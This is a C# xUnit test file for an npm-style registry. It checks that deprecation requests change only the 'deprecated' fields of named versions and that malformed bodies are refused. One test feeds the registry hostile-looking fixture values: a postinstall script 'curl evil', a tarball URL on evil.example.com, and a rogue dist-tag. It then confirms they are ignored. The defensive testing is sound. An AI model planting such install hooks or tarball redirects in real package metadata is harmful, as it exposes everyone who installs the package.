using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Registry.Data;
using Registry.Data.Entities;
using Registry.Unit.Data;
using Xunit;

namespace Registry.Unit.Npm;

/// <summary>npm deprecate reads the whole document, writes a field into some versions and puts it all back.</summary>
public sealed class DeprecationTests(NpmStage stage) : IClassFixture<NpmStage>
{
    [Theory, EveryEngine]
    public async Task Only_the_versions_that_say_so_change_and_an_empty_reason_takes_it_back(DatabaseEngine engine)
    {
        await using var own = await NpmStage.CreateAsync(engine);
        await own.PublishedAsync(new TestPackage(), new TestPackage(Version: "1.1.0"), new TestPackage(Version: "2.0.0"));
        var before = await own.ReadAsync("@acme/tool");
        var document = (JsonObject)before.DeepClone();
        document["versions"]!["1.0.0"]!["deprecated"] = "Too \"old\" ☹";
        document["versions"]!["1.1.0"]!["deprecated"] = "Old";

        var answer = await own.PutAsync("/@acme%2ftool", document.ToJsonString());

        Assert.Equal("""200 {"ok":true}""", answer.ToString());
        var after = await own.ReadAsync("@acme/tool");
        Assert.Equal(document["versions"]!.ToJsonString(), after["versions"]!.ToJsonString());
        Assert.NotEqual((string)before["_rev"]!, (string)after["_rev"]!);
        var abbreviated = NpmStage.Parse(await own.GetAsync("/@acme%2ftool", ("Accept", NpmStage.Abbreviated)));
        Assert.Equal("Too \"old\" ☹", (string)abbreviated["versions"]!["1.0.0"]!["deprecated"]!);
        Assert.Equal([PackageStatus.Deprecated, PackageStatus.Deprecated, PackageStatus.Default], await StatusesAsync(own));
        Assert.Equal(200, (await own.GetAsync("/@acme/tool/-/@acme/tool-1.0.0.tgz")).Status); // still to be had

        after["versions"]!["1.0.0"]!["deprecated"] = "";
        Assert.Equal(200, (await own.PutAsync("/@acme%2ftool", after.ToJsonString())).Status);
        var undone = await own.ReadAsync("@acme/tool");
        Assert.False(((JsonObject)undone["versions"]!["1.0.0"]!).ContainsKey("deprecated"));
        Assert.Equal("Old", (string)undone["versions"]!["1.1.0"]!["deprecated"]!);
        Assert.Equal([PackageStatus.Default, PackageStatus.Deprecated, PackageStatus.Default], await StatusesAsync(own));
    }

    [Fact]
    public async Task The_body_decides_whatever_command_the_client_names()
    {
        await stage.PublishedAsync(new TestPackage("commands"), new TestPackage("commands", "1.1.0"));
        foreach (var command in (string?[])[null, "deprecate", "undeprecate", "publish"])
        {
            var document = await stage.ReadAsync("commands");
            document["versions"]!["1.0.0"]!["deprecated"] = $"by {command}";

            var answer = await stage.SendAsync(HttpMethod.Put, "/commands", NpmStage.Json(document.ToJsonString()), headers =>
            {
                if (command is not null)
                {
                    headers.Add("npm-command", command);
                }
            });

            Assert.Equal(200, answer.Status);
            Assert.Equal($"by {command}", (string)(await stage.ReadAsync("commands"))["versions"]!["1.0.0"]!["deprecated"]!);
        }
    }

    [Fact]
    public async Task Attachments_and_fields_of_an_echoed_document_count_for_nothing()
    {
        await stage.PublishedAsync(new TestPackage("echoes"));
        var before = await stage.ReadAsync("echoes");
        var document = (JsonObject)before.DeepClone();
        document["_attachments"] = new JsonObject();
        document["_rev"] = "999";
        document["dist-tags"]!["evil"] = "1.0.0";
        document["time"]!["1.0.0"] = "1970-01-01T00:00:00.000Z";
        document["versions"]!["1.0.0"]!["deprecated"] = "Old";
        document["versions"]!["1.0.0"]!["scripts"] = new JsonObject { ["postinstall"] = "curl evil" };
        document["versions"]!["1.0.0"]!["dist"]!["tarball"] = "http://evil.example.com/x.tgz";

        Assert.Equal(200, (await stage.PutAsync("/echoes", document.ToJsonString())).Status);

        var after = await stage.ReadAsync("echoes");
        Assert.Equal("Old", (string)after["versions"]!["1.0.0"]!["deprecated"]!);
        ((JsonObject)after["versions"]!["1.0.0"]!).Remove("deprecated");
        Assert.Equal(before["versions"]!.ToJsonString(), after["versions"]!.ToJsonString());
        Assert.Equal(before["dist-tags"]!.ToJsonString(), after["dist-tags"]!.ToJsonString());
        Assert.Equal((string)before["time"]!["1.0.0"]!, (string)after["time"]!["1.0.0"]!);
    }

    [Fact]
    public async Task What_deprecates_nothing_is_refused()
    {
        await stage.PublishedAsync(new TestPackage("nothing"));
        const string NotGiven = """400 {"message":"400 Bad request - \"package versions to deprecate\" not given","error":"\"package versions to deprecate\" not given"}""";

        foreach (var (name, body, expected) in new[]
        {
            ("nothing", """{"name":"nothing","versions":{"1.0.0":{"name":"nothing","version":"1.0.0"}}}""", NotGiven),
            ("nothing", """{"name":"nothing","versions":{}}""", """400 {"message":"versions is missing","error":"versions is missing"}"""),
            ("nothing", """{"name":"nothing","versions":{"9.9.9":{"deprecated":"x"}}}""", """400 {"message":"Attachment data is empty.","error":"Attachment data is empty."}"""),
            ("none", """{"name":"none","versions":{"1.0.0":{"deprecated":"x"},"1.1.0":{}}}""", """404 {"message":"404 Package Not Found","error":"Package not found"}"""),
            ("nothing", """{"_id":"nothing","_rev":"1","maintainers":[{"name":"eve"}]}""", $$"""403 {"message":"403 Forbidden - Who may publish is for the members of the project to decide, on the pages of {{stage.Origin}}.","error":"403 Forbidden - Who may publish is for the members of the project to decide, on the pages of {{stage.Origin}}."}"""),
            ("nothing", """{"_id":"nothing","_rev":"1","users":{"eve":true}}""", """400 {"message":"Stars are not kept here.","error":"Stars are not kept here."}"""),
        })
        {
            Assert.Equal(expected, (await stage.PutAsync($"/{name}", body)).ToString());
        }

        await using var database = stage.Registry.Open();
        Assert.False(await database.PackageNames.AnyAsync(held => held.Name == "none")); // no ghosts
    }

    private static async Task<List<PackageStatus>> StatusesAsync(NpmStage where)
    {
        await using var database = where.Registry.Open();
        return await database.Packages.OrderBy(one => one.Id).Select(one => one.Status).ToListAsync();
    }
}
